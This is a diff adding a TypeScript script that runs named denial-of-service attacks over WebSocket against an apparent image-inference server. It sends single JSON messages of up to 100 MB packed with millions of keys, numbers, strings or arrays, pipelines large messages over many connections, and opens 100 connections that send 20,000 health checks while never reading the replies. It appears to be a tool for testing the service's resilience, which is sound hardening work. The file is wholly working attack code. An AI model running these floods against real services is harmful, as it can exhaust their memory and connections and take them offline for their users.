@@ -1,0 +1,60 @@
+/** Sends costly messages to a port until it is told to stop. Arguments: URL, name of the attack. */
+import { WebSocket } from 'ws'
+
+const [url = '', name = ''] = process.argv.slice(2)
+const MB = 1_000_000
+
+const request = (data: string) =>
+  `{"type":"inference_request","request_id":"attack","data":{"image":"AAAA",${data}}}`
+const filled = (bytes: number, prefix: string, part: string) =>
+  prefix + part.repeat(Math.floor(bytes / part.length))
+
+function keys(bytes: number): string {
+  const parts: string[] = []
+  for (let index = 0, size = 0; size < bytes; index++) {
+    const part = `"k${index}":1`
+    parts.push(part)
+    size += part.length + 1
+  }
+  return request(parts.join(','))
+}
+
+interface Attack {
+  connections: number
+  messages: number
+  text: () => string
+}
+const one = { connections: 1, messages: 1 }
+const ATTACKS: Record<string, Attack> = {
+  'keys 12 MB': { ...one, text: () => keys(12 * MB) },
+  'keys 30 MB': { ...one, text: () => keys(30 * MB) },
+  'keys 60 MB': { ...one, text: () => keys(60 * MB) },
+  'keys 100 MB': { ...one, text: () => keys(100 * MB) },
+  'numbers 30 MB': { ...one, text: () => request(`${filled(30 * MB, '"x":[', '1,')}1]`) },
+  'numbers 100 MB': { ...one, text: () => request(`${filled(100 * MB, '"x":[', '1,')}1]`) },
+  'strings 100 MB': { ...one, text: () => request(`${filled(100 * MB, '"x":[', '"a",')}1]`) },
+  'arrays 6 MB': { ...one, text: () => request(`${filled(5.9 * MB, '"x":[', '[],')}1]`) },
+  'pipelined 16 x 20 MB': { connections: 1, messages: 16, text: () => keys(20 * MB) },
+  'pipelined 24 x 26 MB': { connections: 24, messages: 1, text: () => keys(26 * MB) },
+  'health checks, never read': {
+    connections: 100,
+    messages: 20_000,
+    text: () => '{"type":"health_check"}',
+  },
+}
+
+const attack = ATTACKS[name]
+if (attack === undefined) throw new Error(`attacks: ${Object.keys(ATTACKS).join(', ')}`)
+const text = Buffer.from(attack.text())
+for (let index = 0; index < attack.connections; index++) {
+  const socket = new WebSocket(url, { maxPayload: 200 * MB })
+  socket.on('error', () => undefined)
+  socket.on('message', (data: Buffer) => {
+    console.log(`answer ${data.toString().slice(0, 200)}`)
+  })
+  socket.on('open', () => {
+    if (name.includes('never read')) socket.pause()
+    for (let sent = 0; sent < attack.messages; sent++) socket.send(text, { binary: false })
+    console.log('sent')
+  })
+}
